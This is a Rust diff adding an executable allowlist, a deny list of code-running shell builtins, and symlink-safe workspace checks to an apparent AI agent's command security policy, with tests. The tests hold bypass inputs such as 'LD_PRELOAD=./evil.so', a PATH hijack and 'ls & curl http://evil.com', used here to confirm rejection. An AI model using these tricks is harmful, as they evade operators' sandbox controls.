@@ -1,8 +1,19 @@
+use crate::util::structured_error;
 use parking_lot::Mutex;
 use serde::{Deserialize, Serialize};
+use std::collections::HashSet;
 use std::path::{Path, PathBuf};
+use std::sync::OnceLock;
 use std::time::Instant;
 
+/// Directory entries scanned for escaping symlinks before giving up.
+const ESCAPE_SCAN_MAX_ENTRIES: usize = 10_000;
+
+/// Written and removed again to prove the workspace is writable.
+pub(crate) const WRITE_PROBE_FILE: &str = ".baihu_doctor_probe";
+/// Fix offered for most unusable-workspace errors.
+const WORKSPACE_FIX: &str = "fix directory permissions or point workspace_dir at a writable path";
+
 #[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
 #[serde(rename_all = "lowercase")]
 pub enum AutonomyLevel {
@@ -59,10 +70,16 @@ pub struct SecurityPolicy {
     pub workspace_dir: PathBuf,
     pub workspace_only: bool,
     pub allowed_commands: Vec<String>,
+    /// When non-empty, each command must also resolve (via PATH, symlinks
+    /// followed) to one of these binaries. Empty disables the check.
+    pub allowed_executables: Vec<PathBuf>,
     pub forbidden_paths: Vec<String>,
     pub max_actions_per_hour: u32,
     pub max_cost_per_day_cents: u32,
     pub tracker: ActionTracker,
+    /// `workspace_dir` resolved once by [`Self::from_config`]; left empty,
+    /// [`Self::canonical_workspace`] fills it on first use.
+    pub resolved_workspace: OnceLock<PathBuf>,
 }
 
 impl Default for SecurityPolicy {
@@ -85,6 +102,7 @@ impl Default for SecurityPolicy {
                 "head".into(),
                 "tail".into(),
             ],
+            allowed_executables: Vec::new(),
             forbidden_paths: vec![
                 // System directories (blocked even when workspace_only=false)
                 "/etc".into(),
@@ -110,10 +128,41 @@ impl Default for SecurityPolicy {
             max_actions_per_hour: 20,
             max_cost_per_day_cents: 500,
             tracker: ActionTracker::new(),
+            resolved_workspace: OnceLock::new(),
         }
     }
 }
 
+/// Builtins that run inside the shell and have no binary to resolve. They
+/// only touch the shell's own state or print, so the name allowlist is
+/// enough for them.
+const SAFE_BUILTINS: &[&str] = &["cd", "pwd", "echo", "printf", "true", "false", "test", "["];
+
+/// Builtins that run or load other code; they would bypass the executable
+/// allowlist entirely, so they are refused whenever it is active.
+const EXEC_BUILTINS: &[&str] = &[
+    "eval", "exec", "source", ".", "command", "builtin", "alias", "trap", "xargs",
+];
+
+/// Canonical path of the binary `program` would run: relative paths against
+/// `cwd`, bare names through `path_var` like the shell.
+fn resolve_executable(
+    program: &str,
+    cwd: &Path,
+    path_var: Option<&std::ffi::OsStr>,
+) -> Option<PathBuf> {
+    if program.contains('/') {
+        let candidate = cwd.join(program);
+        return is_executable_file(&candidate)
+            .then(|| std::fs::canonicalize(&candidate).ok())
+            .flatten();
+    }
+    std::env::split_paths(path_var?)
+        .map(|dir| dir.join(program))
+        .find(|candidate| is_executable_file(candidate))
+        .and_then(|found| std::fs::canonicalize(found).ok())
+}
+
 // skip leading env var assignments (e.g. FOO=bar cmd args)
 fn skip_env_assignments(s: &str) -> &str {
     let mut rest = s;
@@ -138,6 +187,22 @@ fn skip_env_assignments(s: &str) -> &str {
 
 impl SecurityPolicy {
     pub fn is_command_allowed(&self, command: &str) -> bool {
+        self.is_command_allowed_at(command, &self.workspace_dir)
+    }
+
+    /// [`Self::is_command_allowed`] for a command the shell will start in
+    /// `cwd`, which is what relative program paths resolve against.
+    pub fn is_command_allowed_at(&self, command: &str, cwd: &Path) -> bool {
+        self.check_command(command, cwd, std::env::var_os("PATH").as_deref())
+    }
+
+    /// [`Self::is_command_allowed`] resolving binaries against `path_var`.
+    #[cfg(test)]
+    fn is_command_allowed_in(&self, command: &str, path_var: Option<&std::ffi::OsStr>) -> bool {
+        self.check_command(command, &self.workspace_dir, path_var)
+    }
+
+    fn check_command(&self, command: &str, cwd: &Path, path_var: Option<&std::ffi::OsStr>) -> bool {
         if self.autonomy == AutonomyLevel::ReadOnly {
             return false;
         }
@@ -159,10 +224,13 @@ impl SecurityPolicy {
         for sep in ["&&", "||"] {
             normalized = normalized.replace(sep, "\x00");
         }
-        for sep in ['\n', ';', '|'] {
+        for sep in ['\n', ';', '|', '&'] {
             normalized = normalized.replace(sep, "\x00");
         }
 
+        // Once a segment changes directory, `cwd` no longer says where
+        // relative programs after it resolve.
+        let mut changed_dir = false;
         for segment in normalized.split('\x00') {
             let segment = segment.trim();
             if segment.is_empty() {
@@ -171,6 +239,11 @@ impl SecurityPolicy {
 
             // Strip leading env var assignments (e.g. FOO=bar cmd)
             let cmd_part = skip_env_assignments(segment);
+            // The shell applies them, so `PATH=./rogue git` or
+            // `LD_PRELOAD=x.so git` would run code the allowlist never saw.
+            if !self.allowed_executables.is_empty() && cmd_part.len() != segment.len() {
+                return false;
+            }
 
             let base_cmd = cmd_part
                 .split_whitespace()
@@ -191,6 +264,17 @@ impl SecurityPolicy {
             {
                 return false;
             }
+
+            if !self.allowed_executables.is_empty() {
+                let program = cmd_part.split_whitespace().next().unwrap_or("");
+                if changed_dir && program.contains('/') && !program.starts_with('/') {
+                    return false;
+                }
+                if !self.is_executable_allowed(program, cwd, path_var) {
+                    return false;
+                }
+                changed_dir |= matches!(program, "cd" | "pushd" | "popd");
+            }
         }
 
         // At least one command must be present
@@ -202,6 +286,29 @@ impl SecurityPolicy {
         has_cmd
     }
 
+    /// Check `program` (the first word of a command) against
+    /// `allowed_executables`: safe builtins pass, code-running builtins never
+    /// do, and anything else must resolve to an allowlisted binary.
+    fn is_executable_allowed(
+        &self,
+        program: &str,
+        cwd: &Path,
+        path_var: Option<&std::ffi::OsStr>,
+    ) -> bool {
+        if EXEC_BUILTINS.contains(&program) {
+            return false;
+        }
+        if SAFE_BUILTINS.contains(&program) {
+            return true;
+        }
+        let Some(resolved) = resolve_executable(program, cwd, path_var) else {
+            return false;
+        };
+        self.allowed_executables
+            .iter()
+            .any(|allowed| std::fs::canonicalize(allowed).is_ok_and(|allowed| allowed == resolved))
+    }
+
     pub fn is_path_allowed(&self, path: &str) -> bool {
         // Block null bytes (can truncate paths in C-backed syscalls)
         if path.contains('\0') {
@@ -232,11 +339,175 @@ impl SecurityPolicy {
         // Must be under workspace_dir (prevents symlink escapes).
         // Prefer canonical workspace root so `/a/../b` style config paths don't
         // cause false positives or negatives.
-        let workspace_root = self
-            .workspace_dir
-            .canonicalize()
-            .unwrap_or_else(|_| self.workspace_dir.clone());
-        resolved.starts_with(workspace_root)
+        resolved.starts_with(self.canonical_workspace())
+    }
+
+    /// Workspace root with symlinks and `..` resolved. Resolved once and
+    /// reused; falls back to the configured path (uncached) if it doesn't
+    /// exist yet.
+    pub fn canonical_workspace(&self) -> PathBuf {
+        if let Some(resolved) = self.resolved_workspace.get() {
+            return resolved.clone();
+        }
+        match self.workspace_dir.canonicalize() {
+            Ok(resolved) => self.resolved_workspace.get_or_init(|| resolved).clone(),
+            Err(_) => self.workspace_dir.clone(),
+        }
+    }
+
+    /// Reject a workspace that is itself a symlink into a sensitive location
+    /// (filesystem root, the home directory, or a forbidden path).
+    pub fn validate_workspace(&self) -> anyhow::Result<()> {
+        if let Some(target) = self.sensitive_symlink_target() {
+            anyhow::bail!(
+                "Workspace {} is a symlink to sensitive location {}",
+                self.workspace_dir.display(),
+                target.display()
+            );
+        }
+        Ok(())
+    }
+
+    /// Where the workspace points, if it is a symlink into a sensitive location.
+    fn sensitive_symlink_target(&self) -> Option<PathBuf> {
+        let is_symlink = std::fs::symlink_metadata(&self.workspace_dir)
+            .is_ok_and(|meta| meta.file_type().is_symlink());
+        if !is_symlink {
+            return None;
+        }
+
+        // Resolved fresh: this also catches a workspace swapped for a link
+        // after startup.
+        let target = self.workspace_dir.canonicalize().ok()?;
+        let home = directories::UserDirs::new().map(|dirs| dirs.home_dir().to_path_buf());
+
+        let sensitive = target.parent().is_none()
+            || home.as_deref() == Some(target.as_path())
+            || self.forbidden_paths.iter().any(|forbidden| {
+                let forbidden = PathBuf::from(shellexpand::tilde(forbidden).as_ref());
+                // `/home` and friends contain the user's own projects: only the
+                // directory itself is sensitive there, not everything beneath it.
+                let contains_home = home.as_deref().is_some_and(|h| h.starts_with(&forbidden));
+                if contains_home {
+                    target == forbidden
+                } else {
+                    target.starts_with(&forbidden)
+                }
+            });
+        sensitive.then_some(target)
+    }
+
+    /// Create the workspace if missing and confirm it is a writable directory
+    /// that [`Self::validate_workspace`] accepts, returning its canonical
+    /// path. Run at startup so tools never get a bad `current_dir`; the
+    /// symlink check has to happen here, before the path is canonicalized.
+    pub fn prepare_workspace(&self) -> anyhow::Result<PathBuf> {
+        self.check_workspace().map_err(|(why, fix)| {
+            anyhow::anyhow!(
+                "{}",
+                structured_error(
+                    &format!("Workspace {} is unusable", self.workspace_dir.display()),
+                    &why,
+                    fix
+                )
+            )
+        })
+    }
+
+    /// Canonical workspace path, or why it is unusable and how to fix it.
+    /// Creates the workspace if missing and proves it writable with a probe
+    /// file.
+    pub(crate) fn check_workspace(&self) -> Result<PathBuf, (String, &'static str)> {
+        if self.inspect_workspace()?.is_none() {
+            std::fs::create_dir_all(&self.workspace_dir)
+                .map_err(|e| (format!("cannot create it: {e}"), WORKSPACE_FIX))?;
+        }
+        let canonical = self.inspect_workspace()?.ok_or_else(|| {
+            (
+                "it vanished right after being created".to_string(),
+                WORKSPACE_FIX,
+            )
+        })?;
+
+        let probe = canonical.join(WRITE_PROBE_FILE);
+        std::fs::write(&probe, b"ok")
+            .and_then(|()| std::fs::remove_file(&probe))
+            .map_err(|e| (format!("it is not writable: {e}"), WORKSPACE_FIX))?;
+        Ok(canonical)
+    }
+
+    /// [`Self::check_workspace`] without touching the filesystem: nothing is
+    /// created, and writability is judged from permissions alone. `Ok(None)`
+    /// means the workspace doesn't exist yet.
+    pub(crate) fn inspect_workspace(&self) -> Result<Option<PathBuf>, (String, &'static str)> {
+        let dir = &self.workspace_dir;
+        match std::fs::symlink_metadata(dir) {
+            Ok(meta) if meta.file_type().is_symlink() && std::fs::metadata(dir).is_err() => {
+                return Err((
+                    "it is a dangling symlink".into(),
+                    "point the symlink at an existing directory or remove it",
+                ));
+            }
+            Ok(_) => {}
+            Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(None),
+            Err(e) => return Err((e.to_string(), WORKSPACE_FIX)),
+        }
+
+        let canonical = std::fs::canonicalize(dir).map_err(|e| (e.to_string(), WORKSPACE_FIX))?;
+        let meta = std::fs::metadata(&canonical).map_err(|e| (e.to_string(), WORKSPACE_FIX))?;
+        if !meta.is_dir() {
+            return Err((
+                "it is not a directory".into(),
+                "point workspace_dir at a directory, not a file",
+            ));
+        }
+        if let Some(target) = self.sensitive_symlink_target() {
+            return Err((
+                format!("it is a symlink to sensitive location {}", target.display()),
+                "point workspace_dir at a project directory, not a system or home directory",
+            ));
+        }
+        if meta.permissions().readonly() {
+            return Err(("it is read-only".into(), WORKSPACE_FIX));
+        }
+        Ok(Some(canonical))
+    }
+
+    /// Symlinks inside the workspace whose targets resolve outside it.
+    /// Scans at most `max_entries` directory entries to stay cheap on large trees.
+    pub fn escaping_symlinks(&self, max_entries: usize) -> Vec<PathBuf> {
+        let root = self.canonical_workspace();
+        let mut escaping = Vec::new();
+        let mut pending = vec![root.clone()];
+        let mut seen = 0_usize;
+
+        while let Some(dir) = pending.pop() {
+            let Ok(entries) = std::fs::read_dir(&dir) else {
+                continue;
+            };
+            for entry in entries.flatten() {
+                seen += 1;
+                if seen > max_entries {
+                    return escaping;
+                }
+                let Ok(file_type) = entry.file_type() else {
+                    continue;
+                };
+                let path = entry.path();
+                if file_type.is_symlink() {
+                    // Dangling links can't be followed, so they can't escape either.
+                    if let Ok(target) = path.canonicalize() {
+                        if !target.starts_with(&root) {
+                            escaping.push(path);
+                        }
+                    }
+                } else if file_type.is_dir() {
+                    pending.push(path);
+                }
+            }
+        }
+
+        escaping
     }
 
     pub fn can_act(&self) -> bool {
@@ -256,19 +527,51 @@ impl SecurityPolicy {
         autonomy_config: &crate::config::AutonomyConfig,
         workspace_dir: &Path,
     ) -> Self {
-        Self {
+        let policy = Self {
             autonomy: autonomy_config.level,
             workspace_dir: workspace_dir.to_path_buf(),
             workspace_only: autonomy_config.workspace_only,
             allowed_commands: autonomy_config.allowed_commands.clone(),
+            allowed_executables: autonomy_config.allowed_executables.clone(),
             forbidden_paths: autonomy_config.forbidden_paths.clone(),
             max_actions_per_hour: autonomy_config.max_actions_per_hour,
             max_cost_per_day_cents: autonomy_config.max_cost_per_day_cents,
             tracker: ActionTracker::new(),
+            resolved_workspace: OnceLock::new(),
+        };
+        policy.canonical_workspace();
+        policy.warn_escaping_symlinks_once();
+        policy
+    }
+
+    /// Log symlinks that lead out of the workspace, the first time a policy
+    /// for that workspace is built in this process.
+    fn warn_escaping_symlinks_once(&self) {
+        static SCANNED: OnceLock<Mutex<HashSet<PathBuf>>> = OnceLock::new();
+        let root = self.canonical_workspace();
+        if !SCANNED.get_or_init(Mutex::default).lock().insert(root) {
+            return;
+        }
+        for link in self.escaping_symlinks(ESCAPE_SCAN_MAX_ENTRIES) {
+            tracing::warn!(
+                path = %link.display(),
+                "Workspace contains a symlink pointing outside the workspace"
+            );
         }
     }
 }
 
+#[cfg(unix)]
+fn is_executable_file(path: &Path) -> bool {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::metadata(path).is_ok_and(|m| m.is_file() && m.permissions().mode() & 0o111 != 0)
+}
+
+#[cfg(not(unix))]
+fn is_executable_file(path: &Path) -> bool {
+    path.is_file()
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -478,6 +781,7 @@ mod tests {
             level: AutonomyLevel::Full,
             workspace_only: false,
             allowed_commands: vec!["docker".into()],
+            allowed_executables: vec![PathBuf::from("/usr/bin/docker")],
             forbidden_paths: vec!["/secret".into()],
             max_actions_per_hour: 100,
             max_cost_per_day_cents: 1000,
@@ -488,6 +792,10 @@ mod tests {
         assert_eq!(policy.autonomy, AutonomyLevel::Full);
         assert!(!policy.workspace_only);
         assert_eq!(policy.allowed_commands, vec!["docker"]);
+        assert_eq!(
+            policy.allowed_executables,
+            vec![PathBuf::from("/usr/bin/docker")]
+        );
         assert_eq!(policy.forbidden_paths, vec!["/secret"]);
         assert_eq!(policy.max_actions_per_hour, 100);
         assert_eq!(policy.max_cost_per_day_cents, 1000);
@@ -782,6 +1090,7 @@ mod tests {
             level: AutonomyLevel::Full,
             workspace_only: false,
             allowed_commands: vec![],
+            allowed_executables: vec![],
             forbidden_paths: vec![],
             max_actions_per_hour: 10,
             max_cost_per_day_cents: 100,
@@ -880,6 +1189,178 @@ mod tests {
         assert!(!p.is_resolved_path_allowed(Path::new("/")));
     }
 
+    #[test]
+    fn canonical_workspace_resolves_dot_segments() {
+        let tmp = tempfile::TempDir::new().unwrap();
+        std::fs::create_dir(tmp.path().join("ws")).unwrap();
+        let p = SecurityPolicy {
+            workspace_dir: tmp.path().join("ws").join("..").join("ws"),
+            ..SecurityPolicy::default()
+        };
+        assert_eq!(
+            p.canonical_workspace(),
+            tmp.path().join("ws").canonicalize().unwrap()
+        );
+    }
+
+    #[test]
+    fn canonical_workspace_falls_back_when_missing() {
+        let p = SecurityPolicy {
+            workspace_dir: PathBuf::from("/nonexistent/baihu/workspace"),
+            ..SecurityPolicy::default()
+        };
+        assert_eq!(
+            p.canonical_workspace(),
+            PathBuf::from("/nonexistent/baihu/workspace")
+        );
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn workspace_is_resolved_once_at_construction() {
+        let tmp = tempfile::TempDir::new().unwrap();
+        let (first, second) = (tmp.path().join("first"), tmp.path().join("second"));
+        std::fs::create_dir(&first).unwrap();
+        std::fs::create_dir(&second).unwrap();
+        let link = tmp.path().join("ws");
+        std::os::unix::fs::symlink(&first, &link).unwrap();
+
+        let p = SecurityPolicy::from_config(&crate::config::AutonomyConfig::default(), &link);
+        std::fs::remove_file(&link).unwrap();
+        std::os::unix::fs::symlink(&second, &link).unwrap();
+        assert_eq!(p.canonical_workspace(), first.canonicalize().unwrap());
+    }
+
+    #[test]
+    fn missing_workspace_is_resolved_once_it_exists() {
+        let tmp = tempfile::TempDir::new().unwrap();
+        let ws = tmp.path().join("later");
+        let p = SecurityPolicy::from_config(&crate::config::AutonomyConfig::default(), &ws);
+        assert_eq!(p.canonical_workspace(), ws);
+        std::fs::create_dir(&ws).unwrap();
+        assert_eq!(p.canonical_workspace(), ws.canonicalize().unwrap());
+    }
+
+    #[test]
+    fn validate_workspace_accepts_plain_directory() {
+        let tmp = tempfile::TempDir::new().unwrap();
+        let p = SecurityPolicy {
+            workspace_dir: tmp.path().to_path_buf(),
+            ..SecurityPolicy::default()
+        };
+        assert!(p.validate_workspace().is_ok());
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn validate_workspace_rejects_symlink_to_sensitive_dir() {
+        let tmp = tempfile::TempDir::new().unwrap();
+        let link = tmp.path().join("ws");
+        std::os::unix::fs::symlink("/etc", &link).unwrap();
+        let p = SecurityPolicy {
+            workspace_dir: link,
+            ..SecurityPolicy::default()
+        };
+        assert!(p.validate_workspace().is_err());
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn validate_workspace_allows_symlink_to_project_dir() {
+        let tmp = tempfile::TempDir::new().unwrap();
+        let real = tmp.path().join("real");
+        std::fs::create_dir(&real).unwrap();
+        let link = tmp.path().join("ws");
+        std::os::unix::fs::symlink(&real, &link).unwrap();
+        let p = SecurityPolicy {
+            workspace_dir: link,
+            forbidden_paths: vec!["/etc".into()],
+            ..SecurityPolicy::default()
+        };
+        assert!(p.validate_workspace().is_ok());
+    }
+
+    fn policy_for(dir: &Path) -> SecurityPolicy {
+        SecurityPolicy {
+            workspace_dir: dir.to_path_buf(),
+            ..SecurityPolicy::default()
+        }
+    }
+
+    #[test]
+    fn prepare_workspace_creates_and_canonicalizes() {
+        let tmp = tempfile::TempDir::new().unwrap();
+        let dir = tmp.path().join("a").join("..").join("workspace");
+        let prepared = policy_for(&dir).prepare_workspace().unwrap();
+        assert!(prepared.is_dir());
+        assert_eq!(
+            prepared,
+            std::fs::canonicalize(tmp.path().join("workspace")).unwrap()
+        );
+        assert!(!prepared.join(WRITE_PROBE_FILE).exists());
+    }
+
+    #[test]
+    fn prepare_workspace_rejects_file() {
+        let tmp = tempfile::TempDir::new().unwrap();
+        let file = tmp.path().join("workspace");
+        std::fs::write(&file, "not a dir").unwrap();
+        let err = policy_for(&file)
+            .prepare_workspace()
+            .unwrap_err()
+            .to_string();
+        assert!(err.contains("not a directory"), "{err}");
+        assert!(err.contains("Fix:"), "{err}");
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn prepare_workspace_rejects_dangling_symlink() {
+        let tmp = tempfile::TempDir::new().unwrap();
+        let link = tmp.path().join("workspace");
+        std::os::unix::fs::symlink(tmp.path().join("gone"), &link).unwrap();
+        let err = policy_for(&link)
+            .prepare_workspace()
+            .unwrap_err()
+            .to_string();
+        assert!(err.contains("dangling symlink"), "{err}");
+        assert!(!tmp.path().join("gone").exists());
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn prepare_workspace_rejects_symlink_to_sensitive_dir() {
+        let tmp = tempfile::TempDir::new().unwrap();
+        let link = tmp.path().join("ws");
+        std::os::unix::fs::symlink("/etc", &link).unwrap();
+        let err = policy_for(&link)
+            .prepare_workspace()
+            .unwrap_err()
+            .to_string();
+        assert!(err.contains("sensitive location"), "{err}");
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn escaping_symlinks_flags_links_outside_workspace() {
+        let tmp = tempfile::TempDir::new().unwrap();
+        let ws = tmp.path().join("ws");
+        let outside = tmp.path().join("outside");
+        std::fs::create_dir_all(ws.join("nested")).unwrap();
+        std::fs::create_dir(&outside).unwrap();
+        std::fs::write(ws.join("inside.txt"), "ok").unwrap();
+        std::os::unix::fs::symlink(&outside, ws.join("nested").join("escape")).unwrap();
+        std::os::unix::fs::symlink(ws.join("inside.txt"), ws.join("internal")).unwrap();
+
+        let p = SecurityPolicy {
+            workspace_dir: ws.clone(),
+            ..SecurityPolicy::default()
+        };
+        let escaping = p.escaping_symlinks(1000);
+        assert_eq!(escaping.len(), 1);
+        assert!(escaping[0].ends_with("nested/escape"));
+    }
+
     #[test]
     fn checklist_default_policy_is_workspace_only() {
         let p = SecurityPolicy::default();
@@ -907,4 +1388,104 @@ mod tests {
             );
         }
     }
+
+    // ── Executable allowlist ─────────────────────────────────
+
+    #[cfg(unix)]
+    fn fake_bin(dir: &Path, name: &str) -> PathBuf {
+        use std::os::unix::fs::PermissionsExt;
+        let path = dir.join(name);
+        std::fs::write(&path, "#!/bin/sh\n").unwrap();
+        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
+        path
+    }
+
+    #[cfg(unix)]
+    fn executable_policy() -> (tempfile::TempDir, SecurityPolicy, std::ffi::OsString) {
+        let tmp = tempfile::TempDir::new().unwrap();
+        let bin = tmp.path().join("bin");
+        let rogue = tmp.path().join("rogue");
+        std::fs::create_dir_all(&bin).unwrap();
+        std::fs::create_dir_all(&rogue).unwrap();
+        let git = fake_bin(&bin, "git");
+        fake_bin(&bin, "ls");
+        fake_bin(&rogue, "git");
+        let policy = SecurityPolicy {
+            workspace_dir: tmp.path().to_path_buf(),
+            allowed_executables: vec![git],
+            allowed_commands: vec!["git".into(), "ls".into(), "cd".into(), "eval".into()],
+            ..SecurityPolicy::default()
+        };
+        let path_var = std::env::join_paths([bin]).unwrap();
+        (tmp, policy, path_var)
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn executable_allowlist_checks_resolved_binary() {
+        let (_tmp, p, path) = executable_policy();
+        let path = Some(path.as_os_str());
+        assert!(p.is_command_allowed_in("git status", path));
+        // Name is allowlisted but the binary isn't
+        assert!(!p.is_command_allowed_in("ls -la", path));
+        // Same basename, different binary
+        assert!(!p.is_command_allowed_in("rogue/git status", path));
+        assert!(p.is_command_allowed_in("bin/git status", path));
+        // Not on PATH at all
+        assert!(!p.is_command_allowed_in("git status", None));
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn executable_allowlist_checks_every_pipeline_segment() {
+        let (_tmp, p, path) = executable_policy();
+        let path = Some(path.as_os_str());
+        assert!(p.is_command_allowed_in("git log | git shortlog", path));
+        assert!(!p.is_command_allowed_in("git log | ls", path));
+        assert!(!p.is_command_allowed_in("git fetch & ls", path));
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn executable_allowlist_handles_builtins() {
+        let (_tmp, p, path) = executable_policy();
+        let path = Some(path.as_os_str());
+        assert!(p.is_command_allowed_in("cd src && git status", path));
+        // Allowlisted by name, but it would run arbitrary code
+        assert!(!p.is_command_allowed_in("eval git status", path));
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn executable_allowlist_rejects_env_prefixes() {
+        let (_tmp, p, path) = executable_policy();
+        let path = Some(path.as_os_str());
+        // Checked against our PATH, but the shell would run rogue/git.
+        assert!(!p.is_command_allowed_in("PATH=rogue git status", path));
+        assert!(!p.is_command_allowed_in("LD_PRELOAD=./evil.so git status", path));
+        assert!(!p.is_command_allowed_in("git log | GIT_DIR=x git status", path));
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn executable_allowlist_resolves_relative_programs_in_cwd() {
+        let (tmp, p, _path) = executable_policy();
+        // bin/git is allowed from the workspace root, not from rogue/..
+        assert!(p.is_command_allowed_at("bin/git status", tmp.path()));
+        let nested = tmp.path().join("rogue");
+        std::fs::create_dir_all(nested.join("bin")).unwrap();
+        fake_bin(&nested.join("bin"), "git");
+        assert!(!p.is_command_allowed_at("bin/git status", &nested));
+        // After a cd the shell's directory is no longer the one checked.
+        assert!(!p.is_command_allowed_at("cd rogue && bin/git status", tmp.path()));
+        let git = tmp.path().join("bin").join("git");
+        let absolute = format!("cd rogue && {} status", git.display());
+        assert!(p.is_command_allowed_at(&absolute, tmp.path()));
+    }
+
+    #[test]
+    fn background_operator_splits_commands() {
+        let p = default_policy();
+        assert!(!p.is_command_allowed("ls & curl http://evil.com"));
+    }
 }